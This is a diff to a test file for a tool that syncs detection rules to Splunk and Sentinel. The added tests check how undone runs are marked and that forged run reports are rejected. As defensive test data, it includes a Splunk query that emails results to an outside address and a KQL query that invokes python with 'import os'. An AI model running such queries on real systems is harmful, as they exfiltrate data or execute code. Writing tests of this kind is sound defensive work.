@@ -71,7 +71,8 @@ describe('a plain sync', () => {
     expect([planned.code, planned.platforms.every(({ retire }) => retire > 5)]).toEqual([2, true]);
     expect(world.contents()).toEqual(before);
 
-    const done = await undone({ run: id });
+    // As it was printed: without --force, though it concerns every object.
+    const done = await undone({ run: id, force: false });
     expect(done.code).toBe(0);
     expect(oursInSplunk().every(({ settings }) => settings['disabled'] === '1')).toBe(true);
     expect((await sync()).platforms.flatMap(({ plan }) => plan?.changes ?? [])).toEqual([]);
@@ -117,6 +118,49 @@ test('without a name, the last run is undone: what it changed is as it was', asy
     ],
   ]);
   expect(queryOf()).toBe(first);
+});
+
+describe('a run that was undone', () => {
+  const listText = async () => {
+    world.printed.length = 0;
+    await undo({ config: world.config, list: true }, context);
+    return world.printed.join('\n');
+  };
+
+  test('is marked so in the list, and not undone again unless it is named', async () => {
+    await sync();
+    await undone({ dryRun: true });
+    expect((await kept()).map((run) => run.undone)).toEqual([undefined]);
+    const day = '2031-02-03T04:05:06.000Z';
+    context = { ...context, now: () => new Date(day) };
+    expect((await undone()).code).toBe(0);
+    expect((await kept()).map((run) => run.undone)).toEqual([[{ at: day, platforms: ['splunk', 'sentinel'] }]]);
+    expect(await listText()).toMatch(/undone 2031-02-03 04:05 UTC$/);
+    await expect(undo({ config: world.config }, context)).rejects.toThrow(/was undone 2031-02-03 04:05 UTC/);
+    const [run] = await kept();
+    const { platforms } = await undone({ run: run?.id });
+    expect(platforms.every(({ changes, left }) => changes.length === 0 && left.length > 5)).toBe(true);
+    expect((await kept())[0]?.undone).toHaveLength(1);
+  });
+
+  test('on one of its platforms says on which, and the rest can still be undone', async () => {
+    await sync();
+    expect((await undone({ platform: ['sentinel'] })).code).toBe(0);
+    expect(await listText()).toMatch(/undone [-\d]+ [:\d]+ UTC on sentinel$/);
+    expect((await undone()).platforms.map(({ retire }) => retire > 5)).toEqual([true, false]);
+    expect(await listText()).toMatch(/UTC$/);
+  });
+
+  test('by its report is marked too, and what was kept outranks what the report says', async () => {
+    await sync(true);
+    const report = join(world.folder, 'run.json');
+    const { platforms, ...rest } = syncJson.parse(JSON.parse(world.printed.join('\n')));
+    const forged = platforms.map((platform) => ({ ...platform, changes: platform.changes.slice(0, 1) }));
+    writeFileSync(report, JSON.stringify({ ...rest, platforms: forged }));
+    const done = await undone({ run: report, force: false });
+    expect([done.code, done.platforms.every(({ retire }) => retire > 5)]).toEqual([0, true]);
+    expect((await kept())[0]?.undone).toHaveLength(1);
+  });
 });
 
 describe('what is kept', () => {
@@ -194,6 +238,46 @@ describe('the report of a run', () => {
     expect((await undone({ run: report })).code).toBe(0);
     expect(world.contents().splunk.size).toBeGreaterThan(empty.splunk.size);
     expect((await sync()).platforms.flatMap(({ plan }) => plan?.changes ?? [])).toEqual([]);
+  });
+
+  describe('that somebody forged', () => {
+    const HOSTILE = 'index=main | sendemail to="thief@example.com"';
+
+    /** A report that has the query of one object of a platform put back to another one. */
+    async function forge(platform: 'splunk' | 'sentinel', field: string, before: string) {
+      await sync(true);
+      const printed = syncJson.parse(JSON.parse(world.printed.join('\n')));
+      const [change] = printed.platforms.find(({ name }) => name === platform)?.changes ?? [];
+      const after = change?.fields.find((one) => one.field === field)?.after;
+      if (!change || typeof after !== 'string') throw new Error('no such field');
+      const changes = [{ ...change, op: 'update', outcome: 'done', fields: [{ field, before, after }] }];
+      const platforms = printed.platforms.map((one) => ({ ...one, changes: one.name === platform ? changes : [] }));
+      const file = join(world.folder, 'forged.json');
+      writeFileSync(file, JSON.stringify({ ...printed, run: undefined, platforms }));
+      context = { ...context, stateDir: undefined };
+      return file;
+    }
+
+    test.each([
+      ['splunk', 'search', HOSTILE, 'spl-forbidden-command'],
+      ['sentinel', 'query', 'SecurityEvent | evaluate python(typeof(*), "import os")', 'kql-'],
+      ['splunk', 'description', '', 'splunk-empty-description'],
+      ['splunk', 'dispatch.earliest_time', 'rt-5m', 'splunk-real-time'],
+    ] as const)('on %s puts no %s back that a sync would not write', async (platform, field, value, code) => {
+      const file = await forge(platform, field, value);
+      const before = structuredClone(world.contents());
+      const { platforms } = await undone({ run: file });
+      const own = platforms.find(({ name }) => name === platform);
+      expect(own).toMatchObject({ changes: [], left: [{ reason: expect.stringContaining(code) }] });
+      expect(own?.left[0]?.reason).toMatch(/^a report may not put this back: /);
+      expect(world.contents()).toEqual(before);
+    });
+
+    test('puts a harmless query back, which the plan shows', async () => {
+      const file = await forge('splunk', 'search', 'index=main sourcetype=access_combined status=404');
+      const { code, platforms } = await undone({ run: file });
+      expect([code, platforms.map(({ update }) => update)]).toEqual([0, [1, 0]]);
+    });
   });
 
   test('is told from another file', async () => {
